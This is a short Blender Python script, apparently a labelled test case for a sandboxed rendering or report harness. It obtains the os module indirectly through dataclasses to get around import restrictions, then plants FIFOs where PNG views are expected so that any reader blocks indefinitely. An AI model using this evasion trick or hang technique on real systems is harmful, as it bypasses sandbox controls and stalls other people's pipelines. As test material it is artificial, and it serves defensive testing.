# attack: the pictures' folder holds fifos where files are expected: whoever opens them waits for ever
# family: reports
import bpy
import dataclasses

os = (lambda inspect: inspect.inspect.os)(dataclasses)
system = os.sys
arguments = list(system.argv)
folder = arguments[arguments.index("--dir") + 1] if "--dir" in arguments else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.makedirs(folder + "/views", exist_ok=True)
os.mkfifo(folder + "/views/front.png")
os.mkfifo(folder + "/views/back.png")
